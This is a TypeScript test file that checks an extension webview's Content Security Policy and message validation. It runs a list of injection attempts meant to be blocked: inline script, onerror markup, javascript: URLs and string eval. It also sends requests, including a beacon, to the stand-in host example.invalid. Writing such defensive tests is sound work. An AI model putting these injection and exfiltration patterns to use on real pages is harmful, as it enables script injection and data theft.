/** Attacks on the page's policy: what a strange file could bring in is refused, even if it became markup. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { policyOf } from '../../extension/host/report-html.ts';
import { readToHost, readToPage } from '../../extension/protocol/messages.ts';
import { exampleReport } from '../report/example.ts';
import { type OpenPage, PageHouse, noBrowser } from './page.ts';
import { messageOf } from './report-message.ts';

test('the policy allows the page’s own script and style, and nothing else', () => {
  expect(policyOf('abc').split('; ')).toEqual([
    "default-src 'none'",
    "script-src 'nonce-abc'",
    "style-src 'nonce-abc'",
    "base-uri 'none'",
    "form-action 'none'",
    "require-trusted-types-for 'script'",
    "trusted-types 'none'",
  ]);
});

test.each([
  null,
  7,
  'ready',
  [],
  {},
  { kind: 'nonsense' },
  { kind: 'accept', run: 1, adjusters: [], others: [] },
  { kind: 'accept', run: 1, adjusters: [], others: [{ adjuster: 'a', setting: 0.5 }] },
  { kind: 'clips', run: 1, request: 1, take: null, wants: [{ track: 0, fromS: 0, toS: 1e6 }] },
  { kind: 'clips', run: 1, request: 1, take: null, wants: Array(97).fill({ track: 0, fromS: 0, toS: 1 }) },
  { kind: 'show-pin', channel: 'a', step: -1 },
  { kind: 'correct', run: 1, row: { timeS: NaN, channel: '', action: 'drop', note: '' } },
  { kind: 'correct', run: 1, row: { timeS: 1, channel: '', action: 'delete', note: '' } },
])('%j is no message to the editor', (message) => {
  expect(readToHost(message)).toBeNull();
});

test('columns of different lengths, or that point outside their lists, are no report', () => {
  const message = messageOf(exampleReport());
  expect(readToPage(message)).not.toBeNull();
  const { hits } = message;
  expect(readToPage({ ...message, hits: { ...hits, timeS: hits.timeS.slice(1) } })).toBeNull();
  expect(readToPage({ ...message, hits: { ...hits, channel: hits.channel.map(() => 3) } })).toBeNull();
  expect(readToPage({ ...message, head: { ...message.head, groups: 'none' } })).toBeNull();
});

describe.skipIf(noBrowser !== null)(`attacks${noBrowser === null ? '' : ` (skipped: ${noBrowser})`}`, () => {
  let house: PageHouse;
  let open: OpenPage;
  const asked: string[] = [];

  beforeAll(async () => {
    house = await PageHouse.open();
    open = await house.page('dark');
    await open.post(messageOf(exampleReport()));
    await open.page.waitForSelector('[data-run]');
    // The browser lists what it refused too, with the reason; all else was let out.
    open.page.on('requestfinished', (request) => asked.push(request.url()));
    open.page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp')
        asked.push(`${request.url()} ${request.failure()?.errorText}`);
    });
    await open.page.evaluate(() => {
      Object.assign(window, { harmed: false });
    });
  });
  afterAll(() => house.close());

  /** What the page's own code could be tricked into, done outright. */
  const attacks: Record<string, () => void> = {
    'an inline script': () => {
      const script = document.createElement('script');
      script.append('window.harmed = true');
      document.body.append(script);
    },
    'a script from elsewhere': () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://example.invalid/x.js');
      document.body.append(script);
    },
    'markup with a handler': () => {
      document.body.innerHTML += '<img src="x" onerror="window.harmed = true">';
    },
    'a handler as an attribute': () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.harmed = true');
      image.src = 'x:y';
      document.body.append(image);
    },
    'code from a string': () => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the attack itself
      new Function('window.harmed = true')();
    },
    'a timer with a string': () => {
      (setTimeout as (code: string) => void)('window.harmed = true');
    },
    'a picture from elsewhere': () => {
      const image = new Image();
      image.src = 'https://example.invalid/p.png';
      document.body.append(image);
    },
    'a request': () => {
      void fetch('https://example.invalid/').catch(() => undefined);
    },
    'a request to where the page came from': () => {
      void fetch('/view.js').catch(() => undefined);
    },
    'a socket': () => {
      new WebSocket('wss://example.invalid/');
    },
    'a beacon': () => {
      navigator.sendBeacon('https://example.invalid/', 'all of it');
    },
    'a frame': () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.invalid/';
      document.body.append(frame);
    },
    'a style sheet from elsewhere': () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://example.invalid/s.css';
      document.head.append(link);
    },
    'an inline style sheet': () => {
      const style = document.createElement('style');
      style.textContent = '@import url(https://example.invalid/s.css); body { display: none }';
      document.head.append(style);
    },
    'a font': () => {
      void new FontFace('x', 'url(https://example.invalid/f.woff2)').load().catch(() => undefined);
    },
    'a form': () => {
      const form = document.createElement('form');
      form.action = 'https://example.invalid/';
      document.body.append(form);
      form.submit();
    },
    'another base address': () => {
      const base = document.createElement('base');
      base.href = 'https://example.invalid/';
      document.head.append(base);
    },
    'a worker': () => {
      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    },
    'an address that is code': () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.harmed = true';
      document.body.append(link);
      link.click();
    },
    'an object': () => {
      const object = document.createElement('object');
      object.data = 'https://example.invalid/o';
      document.body.append(object);
    },
  };

  test.each(Object.entries(attacks))('%s is refused', async (_, attack) => {
    const before = asked.length;
    // In a task of its own: what a debugger evaluates is let off part of the policy. A throw is a refusal too.
    const refused = await open.page.evaluate<string | null>(
      `new Promise((done) => setTimeout(() => {
        window.harmed = false;
        try { (${attack.toString()})(); done(null); } catch (error) { done(error.message); }
      }))`,
    );
    await open.page.waitForTimeout(80);
    const state = await open.page.evaluate(() => ({
      harmed: (window as unknown as { harmed: boolean }).harmed,
      display: getComputedStyle(document.body).display,
      base: document.baseURI === location.href,
      violations: (window as unknown as { refused: string[] }).refused.splice(0),
    }));
    expect(state.harmed).toBe(false);
    expect(state.display).toBe('block');
    expect(state.base).toBe(true);
    expect(asked.slice(before).filter((url) => !url.startsWith('blob:'))).toEqual([]);
    expect(refused ?? state.violations.join()).not.toBe('');
  });

  test('messages of others are passed over', async () => {
    for (const message of [
      null,
      'report',
      { kind: 'report' },
      { kind: 'notice' },
      { kind: 'run', code: 'x' },
    ])
      await open.page.evaluate((data) => window.postMessage(data, '*'), message as never);
    expect(await open.page.locator('h1').count()).toBe(1);
  });
});
